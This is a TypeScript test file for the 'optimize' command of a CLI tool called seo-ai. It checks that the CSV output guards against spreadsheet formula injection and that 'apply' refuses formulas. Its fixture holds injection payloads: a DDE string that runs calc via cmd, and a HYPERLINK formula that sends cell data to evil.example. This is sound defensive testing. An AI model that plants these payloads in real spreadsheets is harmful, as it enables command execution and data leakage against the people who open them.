// Issue 17, optimize runs: formulas in what seo-ai writes (#3), rows a stopped run never reached
// (#18), and two runs on one output (#19). The built CLI against generated inputs and, for the LLM
// cases, the OpenAI-compatible server on 127.0.0.1.
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { startsLikeFormula } from '../../src/csv/formula.js';
import { readCsv } from '../../src/csv/read.js';
import { writeCsv } from '../../src/csv/write.js';
import { OUTPUT_COLUMNS } from '../../src/optimize/output.js';
import { changedFiles, fileStates, runMeasured, scratchDir } from '../../src/testing/adversarial.js';

/** Hostile cells: every start OWASP lists (=, +, -, @, tab, CR), in titles, descriptions, H1s and keywords. */
function hostileCsv(rows: number): string {
  const starts = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|" /C calc"!A0', '-2+3+cmd|calc', '@SUM(1+1)*cmd|calc', '\t=1+1 tabbed', '\r=1+1 carriage'];
  const body = Array.from({ length: rows }, (_, i) => [
    `https://shop.example/p${i}`,
    starts[i % starts.length]!,
    starts[(i + 1) % starts.length]!,
    starts[(i + 2) % starts.length]!,
    `=kw${i}`,
    `Some words about product ${i}. `.repeat(20),
  ]);
  return writeCsv({ delimiter: ',', newline: '\n', bom: false }, ['url', 'title', 'meta_description', 'h1', 'keywords', 'content'], body);
}

describe('adversarial: optimize output', () => {
  it('#3: no cell seo-ai adds to *.optimized.csv starts like a formula; the user\'s own cells stay byte-exact; apply refuses a formula', async () => {
    const dir = scratchDir('optrun-formula');
    const input = path.join(dir, 'in.csv');
    writeFileSync(input, hostileCsv(60));
    const inputs = fileStates(dir);
    const r = await runMeasured(['optimize', '--csv', 'in.csv', '--offline'], { cwd: dir, killAfterMs: 30_000, heapMb: 512 });
    expect(r.stderr).not.toContain('internal error');
    expect(r.code).toBe(0);
    expect(r.ms).toBeLessThan(30_000);
    expect(r.maxRssMb).toBeLessThan(1500);
    expect(changedFiles(inputs, fileStates(dir))).toEqual([]);

    const original = readCsv(readFileSync(input));
    const out = readCsv(readFileSync(path.join(dir, 'in.optimized.csv')));
    expect(out.rows).toHaveLength(60);
    const added = OUTPUT_COLUMNS.map((c) => out.header.indexOf(c));
    expect(added.every((i) => i >= original.header.length)).toBe(true);
    let newTitles = 0;
    out.rows.forEach((row, i) => {
      // The user's cells, exactly as they were: formulas included (it is their file).
      expect(row.fields.slice(0, original.header.length)).toEqual(original.rows[i]!.fields);
      for (const at of added) expect(startsLikeFormula(row.fields[at]!), `${out.header[at]} of row ${i + 2}: ${JSON.stringify(row.fields[at])}`).toBe(false);
      if (row.fields[out.header.indexOf('new_title')] !== '') newTitles++;
    });
    // The break: the keyword "=kw0" put in front of a title gave "=kw0 – =HYPERLINK(…)", unguarded.
    expect(newTitles).toBeGreaterThanOrEqual(5);
    expect(out.rows[0]!.fields[out.header.indexOf('new_title')]).toMatch(/^'=kw0 /);

    // The review never approves a formula by default; approved by hand, apply refuses it and writes nothing.
    const reviewFile = path.join(dir, 'in.review.csv');
    const review = readFileSync(reviewFile, 'utf8');
    expect(review).not.toMatch(/,yes\r\n/);
    expect(review).toContain('which a spreadsheet runs as a formula: not approved');
    writeFileSync(reviewFile, review.replace(/,no\r\n/, ',yes\r\n'));
    const before = fileStates(dir);
    const applied = await runMeasured(['apply', 'in.review.csv', '--to', 'in.csv'], { cwd: dir, killAfterMs: 30_000 });
    expect(applied.code).toBe(2);
    expect(applied.stderr).toContain(`in.review.csv:2: https://shop.example/p0 (title): after starts with "=", which a spreadsheet runs as a formula: remove the leading character, or set approve to no`);
    expect(changedFiles(before, fileStates(dir))).toEqual([]);
  });
});
